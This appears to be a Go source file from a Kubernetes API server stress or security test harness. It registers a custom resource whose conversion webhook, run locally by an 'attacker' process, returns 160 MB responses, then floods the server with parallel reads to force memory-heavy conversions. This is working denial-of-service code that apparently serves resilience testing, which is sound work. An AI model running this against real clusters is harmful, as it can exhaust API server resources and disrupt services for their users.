package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"

	"kelson.dev/test/child"
)

const convertedPath = "/apis/convert.example.com/v2/namespaces/default/converts"

// converted is the size of the responses of the conversion webhook.
const converted = 160_000_000

// largeConversions registers a kind whose conversion webhook answers with 160 MB, and creates
// objects of it. The attacker's process serves the webhook.
func largeConversions(ctx context.Context, t *target) error {
	port, err := child.FreePort()
	if err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(t.keys, webhookPort), []byte(port), 0o600); err != nil {
		return err
	}
	ca, err := os.ReadFile(filepath.Join(t.keys, "ca.crt"))
	if err != nil {
		return err
	}
	version := func(name string, storage bool) string {
		return fmt.Sprintf(`{"name":%q,"served":true,"storage":%t,"schema":{"openAPIV3Schema":{"type":"object","x-kubernetes-preserve-unknown-fields":true}}}`, name, storage)
	}
	objects := [][2]string{
		{definitionsPath, fmt.Sprintf(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"converts.convert.example.com"},
			"spec":{"group":"convert.example.com","scope":"Namespaced","names":{"plural":"converts","kind":"Convert"},"versions":[%s,%s],
			"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://127.0.0.1:%s/","caBundle":%q}}}}}`,
			version("v1", true), version("v2", false), port, base64.StdEncoding.EncodeToString(ca))},
	}
	if err := errors.Join(t.create(ctx, admin, objects), t.allowEditor(ctx, "convert.example.com")); err != nil {
		return err
	}
	const stored = "/apis/convert.example.com/v1/namespaces/default/converts"
	for i := range 5 {
		body := fmt.Sprintf(`{"apiVersion":"convert.example.com/v1","kind":"Convert","metadata":{"name":"c%d"}}`, i)
		if err := t.createSoon(ctx, stored, body); err != nil {
			return err
		}
	}
	return nil
}

// webhookPort is the file with the port on which the attacker serves the webhook.
const webhookPort = "webhook.port"

// largeAnswers starts a server that answers every request with the beginning of a ConversionReview
// of 160 MB. It ends with ctx.
func (t *target) largeAnswers(ctx context.Context) error {
	port, err := os.ReadFile(filepath.Join(t.keys, webhookPort))
	if err != nil {
		return err
	}
	pair, err := tls.LoadX509KeyPair(filepath.Join(t.keys, "server.crt"), filepath.Join(t.keys, "server.key"))
	if err != nil {
		return err
	}
	listener, err := net.Listen("tcp", "127.0.0.1:"+string(port))
	if err != nil {
		return err
	}
	chunk := bytes.Repeat([]byte("x"), 1<<20)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		_, _ = io.Copy(io.Discard, req.Body)
		w.Header().Set("Content-Type", "application/json")
		_, err := io.WriteString(w, `{"apiVersion":"apiextensions.k8s.io/v1","kind":"ConversionReview","response":{"uid":"`)
		for sent := 0; err == nil && sent < converted; sent += len(chunk) {
			_, err = w.Write(chunk)
		}
	})}
	go func() { _ = srv.Serve(tls.NewListener(listener, &tls.Config{Certificates: []tls.Certificate{pair}})) }()
	context.AfterFunc(ctx, func() { srv.Close() })
	return nil
}

// convertingReads sends at most 400 reads of one object and of lists, 8 at a time, in the version
// to which the webhook converts.
func convertingReads(ctx context.Context, t *target) error {
	if err := t.largeAnswers(ctx); err != nil {
		return err
	}
	t.flood(ctx, 8, 400, func(i int) (string, string, string, string, string, []string) {
		if i%4 == 0 {
			return editor, http.MethodGet, convertedPath, "", "", nil
		}
		return editor, http.MethodGet, fmt.Sprintf("%s/c%d", convertedPath, i%5), "", "", nil
	})
	return nil
}
